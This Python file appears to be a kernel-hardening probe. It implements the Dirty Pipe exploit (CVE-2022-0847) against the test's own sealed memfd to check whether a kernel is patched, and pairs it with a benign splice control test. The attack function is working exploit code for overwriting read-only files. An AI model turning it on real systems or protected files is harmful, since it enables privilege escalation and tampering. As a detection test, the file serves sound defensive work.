"""Write through a pipe into a file that may only be read.

Technique: Dirty Pipe, CVE-2022-0847: a pipe's buffers keep the flag that lets writes be merged, then splice puts a page of a file there, and what is
    written next lands in the file. The target is a file of one's own that is sealed, so a kernel that fails harms nobody. Only a mended kernel
    stops it: what is read-only by its mount is changed in memory.
Success: the sealed file changes.
Stopped by: root_filesystem
"""
import fcntl

SEALS = 2 | 4 | 8  # shrink, grow, write


def attack():
    target = os.memfd_create("sealed", os.MFD_ALLOW_SEALING)
    os.write(target, b"original" * 512)
    fcntl.fcntl(target, 1033, SEALS)
    reading, writing = os.pipe()
    size = fcntl.fcntl(writing, 1032)  # F_GETPIPE_SZ
    # Fill and empty it, so that every buffer has the flag.
    os.write(writing, bytes(size))
    while size > 0:
        size -= len(os.read(reading, size))
    offset = (ctypes.c_int64 * 1)(0)
    syscall("splice", target, offset, writing, None, 1, 0)
    os.write(writing, b"CHANGED")
    after = os.pread(target, 8, 0)
    return after != b"original" and f"the sealed file begins with {after}"


def twin():
    """splice and pipes between files, which zero-copy servers use."""
    with open("/work/source", "w+b") as source, open("/work/target", "w+b") as target:
        source.write(b"hello")
        source.flush()
        reading, writing = os.pipe()
        offset = (ctypes.c_int64 * 1)(0)
        assert syscall("splice", source.fileno(), offset, writing, None, 5, 0) == 5
        assert syscall("splice", reading, None, target.fileno(), None, 5, 0) == 5
        assert target.seek(0) == 0 and target.read() == b"hello"
